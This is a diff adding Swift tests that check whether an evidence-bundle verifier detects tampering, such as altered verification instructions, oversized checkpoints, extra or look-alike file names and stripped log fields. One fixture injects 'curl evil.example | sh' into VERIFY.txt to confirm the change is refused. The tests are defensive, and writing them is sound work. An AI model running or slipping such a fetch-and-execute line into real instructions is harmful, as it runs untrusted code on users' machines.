@@ -220,6 +220,44 @@ struct TamperedEvidenceTests {
     #expect(refusal { _ = try Evidence.verify(at: bundle) }?.code == .failed)
   }
 
+  @Test func `what people read and run of a bundle is what Custody wrote, and nothing lies beside it`() throws {
+    for (name, change) in [
+      ("VERIFY.txt", swap("    python3", "    curl evil.example | sh; python3")), ("VERIFY.txt", { $0 += "\n" }),
+      ("limits.txt", swap("not", "")), ("checkpoint", swap("\n\(size)\n", "\n18446744073709551615\n")),
+    ] {
+      let error = try finds(name, change)
+      #expect(error?.code == .integrity, "\(name): \(error?.reason ?? "not found")")
+    }
+    for names in [["report.html"], ["tile/x"], ["proof1"], ["caf\u{e9}", "cafe\u{301}"], ["VERIFY.txt "]] {
+      for name in names { try Data("x".utf8).write(to: URL(fileURLWithPath: "\(bundle)/\(name)")) }
+      let error = refusal { _ = try Evidence.verify(at: bundle) }
+      #expect(error?.code == .integrity, "\(names): \(error?.reason ?? "not found")")
+      for name in names { try FileManager.default.removeItem(atPath: "\(bundle)/\(name)") }
+    }
+    #expect(refusal { _ = try Evidence.verify(at: bundle) } == nil)
+  }
+
+  @Test func `names that nothing discloses do not stand in a bundle`() throws {
+    let disclosing = try finds("disclosed.jsonl") { $0 = "" }
+    #expect(disclosing?.code == .integrity)
+    try Data().write(to: URL(fileURLWithPath: bundle + "/disclosed.jsonl"))
+    let lines = try String(contentsOfFile: bundle + "/log.jsonl", encoding: .utf8).split(separator: "\n")
+      .filter { !$0.contains("\"metadata\":") && !$0.contains("\"note\":") || $0.contains("\"type\":\"checkpoint\"") }
+      .map { $0.replacingOccurrences(of: "contoso", with: "fabrikam") }
+    try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: URL(fileURLWithPath: bundle + "/log.jsonl"))
+    // A table that names nothing, as the entries alone make it.
+    let table = try String(contentsOfFile: bundle + "/log.csv", encoding: .utf8).components(separatedBy: "\r\n")
+    let bare = table.enumerated().map { (number, row) -> String in
+      guard number > 0, !row.isEmpty else { return row }
+      var cells = row.components(separatedBy: "\",\"")
+      for column in [8, 9, 10, 11, 18] { cells[column] = "" }
+      return cells.joined(separator: "\",\"")
+    }
+    try Data(bare.joined(separator: "\r\n").utf8).write(to: URL(fileURLWithPath: bundle + "/log.csv"))
+    let error = refusal { _ = try Evidence.verify(at: bundle) }
+    #expect(error?.fault?.rule == .standsBeside)
+  }
+
   @Test func `an archive in which any header or padding is changed is refused`() throws {
     let path = vault.folder + "/bundle.tar"
     _ = try vault.session(.audrey).exportBundle(LogFilter(), below: size, to: path)
@@ -287,7 +325,8 @@ struct TamperedPartTests {
     let enrolment = try #require(
       try files.first { String(decoding: try proof($0).extra ?? [], as: UTF8.self).contains("\nmember \(dev)\n") })
     let fault = try finds(enrolment, nil)?.fault
-    #expect(fault?.rule == .unknownActor)
+    // The first entry of the part that is about dev changes their role.
+    #expect(fault?.rule == .unknownMember)
   }
 
   @Test func `a proof of another log is no proof here`() throws {
